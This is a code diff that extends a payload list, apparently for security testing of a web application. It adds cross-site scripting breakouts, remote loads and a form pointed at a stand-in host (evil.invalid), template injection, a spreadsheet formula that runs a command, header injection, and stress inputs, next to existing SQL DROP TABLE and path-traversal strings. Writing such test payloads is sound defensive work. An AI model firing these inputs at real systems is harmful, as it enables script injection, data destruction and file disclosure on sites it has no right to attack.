@@ -57,3 +57,28 @@ PAYLOADS = [
     "'; DROP TABLE observability_callrecord; --",
     "../../etc/passwd%00%0a",
 ]
+
+_OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`")
+"""What a text might stand in, and how it gets out."""
+_INTO = (
+    "<script>alert(2)</script>",
+    "<img src=//evil.invalid/p onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>",
+    "<iframe src='data:text/html,<script>parent.alert(1)</script>'>",
+    "<style>@import '//evil.invalid/x.css';header{display:none}</style>",
+    "<form action=//evil.invalid/><input name=csrfmiddlewaretoken><button>x</button>",
+    "<link rel=preload as=script href=//evil.invalid/x.js>",
+    "<video autoplay onloadstart=alert(1) src=//evil.invalid/x></video>",
+    "<h1>Another title</h1><main>another page</main>",
+    "{{constructor.constructor('alert(1)')()}}{% csrf_token %}",
+    '",\\"x\\":1}]}\n\ndata: {"kind":"finished"}\n\n',
+    '=HYPERLINK("//evil.invalid/","x")+cmd|\' /C calc\'!A1',
+)
+PAYLOADS += [f"{out} {into}".strip() for out in _OUT_OF for into in _INTO]
+PAYLOADS += [f"@SUM({sign}1)\t{sign}1" for sign in "+-"]
+PAYLOADS += [f"![x](javascript:alert({n})) [x]: javascript:alert({n}) <javascript:alert({n})>" for n in range(3)]
+PAYLOADS += ["\N{HEBREW LETTER ALEF}\u2067\u202b" * 40, "\U0001f9d1\u200d\U0001f680" * 200]
+PAYLOADS += ["_" * 5_000, "\u00a0\u3000" * 900]
+PAYLOADS += ["[" * 3_000, '{"a":' * 500, "\x9b31m\x9d0;title\x07"]
+PAYLOADS += ["%00%0d%0aSet-Cookie:x=1", "\ud7ff\ufffd\ufffe", "&" * 900]
